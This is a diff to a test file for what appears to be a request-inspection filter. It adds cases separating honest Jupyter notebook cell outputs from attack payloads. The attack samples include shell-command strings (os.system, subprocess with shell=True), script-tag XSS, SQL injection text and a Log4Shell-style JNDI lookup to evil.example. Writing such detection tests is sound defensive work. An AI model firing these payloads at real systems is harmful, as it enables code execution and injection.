@@ -31,6 +31,10 @@ const from = (page: string, name = 'Referer'): InspectedRequest => ({
   headers: [name, page],
 })
 
+const notebook = (output: unknown): unknown => ({
+  content: { cells: [{ cell_type: 'code', source: 'x', outputs: [output] }] },
+})
+
 const mail = (html: string): InspectedRequest => filled({ 'body-html': html })
 
 /** What pages, their reports and their mails send for honest reasons, and what stays an attack beside it. */
@@ -335,6 +339,23 @@ const KINDS: Readonly<
       asked('/index.php', { query: 'round(up)' }),
       asked('/index.php/api/v1/query.php', { query: 'time()' }),
       asked('/s', { query: 'time()' }),
+    ],
+  },
+  'what the cells of a notebook printed': {
+    honest: [
+      sent(notebook({ data: { 'text/plain': "os.system('ls -la /tmp')" } })),
+      sent(notebook({ data: { 'text/html': ['<div id="p"></div>', '<script>draw("p")</script>'] } })),
+      sent(notebook({ name: 'stdout', text: ["eval('1+1'); exec('x = 2')\n", 'ok\n'] })),
+      sent(notebook({ evalue: "c.execute(\"SELECT 1 UNION SELECT 2 WHERE '1'='1'\")" })),
+      sent(notebook({ traceback: ['os.system(cmd)', "subprocess.check_output('id', shell=True)"] })),
+    ],
+    attacks: [
+      sent(notebook({ data: { id: "os.system('ls -la /tmp')" } })),
+      sent(notebook({ data: { 'text/plain': '$' + '{jndi:ldap://evil.example/a}' } })),
+      sent(notebook({ metadata: { 'text/html': '<script>alert(1)</script>' } })),
+      sent({ outputs: [{ data: { 'text/html': '<script>alert(1)</script>' } }] }),
+      sent({ data: { 'text/plain': "os.system('ls -la /tmp')" } }),
+      filled({ 'text/plain': "os.system('ls -la /tmp')" }),
     ],
   },
   'a text in a field of a form object': {
